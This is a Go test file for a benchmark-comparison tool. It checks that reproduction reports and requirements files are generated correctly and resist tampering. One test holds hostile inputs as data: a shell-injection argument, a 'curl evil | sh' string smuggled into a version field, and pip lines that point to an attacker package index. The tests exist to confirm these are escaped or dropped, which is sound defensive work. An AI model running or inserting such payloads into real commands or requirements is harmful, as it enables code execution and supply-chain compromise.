package compare

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/assay-bench/assay"
	"github.com/assay-bench/assay/report"
)

func TestReproductionInstructions(t *testing.T) {
	e := full()
	e.ID, e.ConfigSHA256, e.Plan.Seed = "01TEST", strings.Repeat("c", 64), 42
	e.Command = []string{"assay", "compare", "my bench.yaml", "--gate", "ttft_p99<=+5%", "it's"}
	e.Version.BinarySHA256 = strings.Repeat("b", 64)
	e.Node.Kernel, e.Node.GPUs = "6.1.0", []assay.GPU{{UUID: "g", Name: "A GPU", Index: 1, Driver: "570.1", CUDA: "12.8"}}
	e.Engines[0].Lock = map[string]string{"command": "vllm serve", "command_sha256": strings.Repeat("a", 64), "python": "3.11.2", "python_packages_sha256": "d00d", "gpu_driver": "570.1"}
	e.Engines[0].Packages = []string{"aiohttp==1.0", "torch==2.13.0"}
	dir := t.TempDir()
	if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"comparison_table.md", "report.html"} {
		b, err := os.ReadFile(filepath.Join(dir, file))
		if err != nil {
			t.Fatal(err)
		}
		for _, want := range []string{
			"How to repeat this", "assay compare RESULTS/reproduce/config.json", "RESULTS/reproduce/a-requirements.txt", "Python 3.11.2",
			strings.Repeat("a", 64), strings.Repeat("b", 64), strings.Repeat("c", 64), "d00d", "570.1", "12.8", "6.1.0", "AMD EPYC", "vllm serve",
		} {
			// Markdown escapes some letters, and HTML others.
			if !strings.Contains(strings.ReplaceAll(string(b), `\`, ""), want) {
				t.Errorf("%s lacks %q", file, want)
			}
		}
	}
	if got, err := os.ReadFile(filepath.Join(dir, "reproduce", "a-requirements.txt")); err != nil || string(got) != "aiohttp==1.0\ntorch==2.13.0\n" {
		t.Errorf("requirements: %q %v", got, err)
	}
	if got, err := os.ReadFile(filepath.Join(dir, "reproduce", "config.json")); err != nil || string(got) != "{\n  \"z\": 1,\n  \"a\": [\n    \"x\"\n  ]\n}\n" {
		t.Errorf("configuration: %q %v", got, err)
	}
}

// Runs that were made elsewhere have no configuration, and nobody is told to run one.
func TestReproductionOfRuns(t *testing.T) {
	e := made(2, 1, 1)
	e.Config, e.ConfigSHA256 = nil, ""
	dir := t.TempDir()
	if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(dir, "reproduce", "config.json")); err == nil {
		t.Error("there is a configuration")
	}
	var b strings.Builder
	if err := (report.Look{}).Text(&b, report.Page{Blocks: reproduction(e)}); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(b.String(), "config.json") || !strings.Contains(b.String(), "Nothing was started for it") {
		t.Error(b.String())
	}
}

// Results may come from anybody: what they name is neither written elsewhere nor
// given to a shell or to pip as something else.
func TestReproductionOfHostileResults(t *testing.T) {
	e := full()
	e.Command = []string{"assay", "'; touch owned; '"}
	e.Engines[0].Lock = map[string]string{"python": "3.12; curl evil | sh"}
	e.Engines[0].Packages = []string{"--index-url http://evil/", "torch==2.13.0+cpu", "x==1\n--extra-index-url http://evil/", "x @ file:///tmp/evil"}
	dir := t.TempDir()
	if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err != nil {
		t.Fatal(err)
	}
	got, err := os.ReadFile(filepath.Join(dir, "reproduce", "a-requirements.txt"))
	if err != nil {
		t.Fatal(err)
	}
	for line := range strings.Lines(string(got)) {
		if line != "torch==2.13.0+cpu\n" && !strings.HasPrefix(line, "# ") {
			t.Errorf("pip would read %q", line)
		}
	}
	md, err := os.ReadFile(filepath.Join(dir, "comparison_table.md"))
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(md), `assay ''"'"'; touch owned; '"'"''`) || strings.Contains(string(md), "of Python 3.12; curl") {
		t.Errorf("the source of the report can be pasted as something else:\n%s", md)
	}
}

// A link that the results' maker planted turns no file elsewhere.
func TestOutputsFollowNoLink(t *testing.T) {
	e := full()
	e.ConfigSHA256 = strings.Repeat("c", 64)
	for _, name := range []string{reproduceDir, "analysis"} {
		dir, elsewhere := t.TempDir(), t.TempDir()
		if err := os.Symlink(elsewhere, filepath.Join(dir, name)); err != nil {
			t.Skip(err)
		}
		if err := WriteOutputs(dir, e, Analyze(e), OutputOptions{}); err == nil || !strings.Contains(err.Error(), "is a link") {
			t.Errorf("%s: %v", name, err)
		}
		if files, err := os.ReadDir(elsewhere); err != nil || len(files) > 0 {
			t.Errorf("%s: %v was written, %v", name, files, err)
		}
	}
}
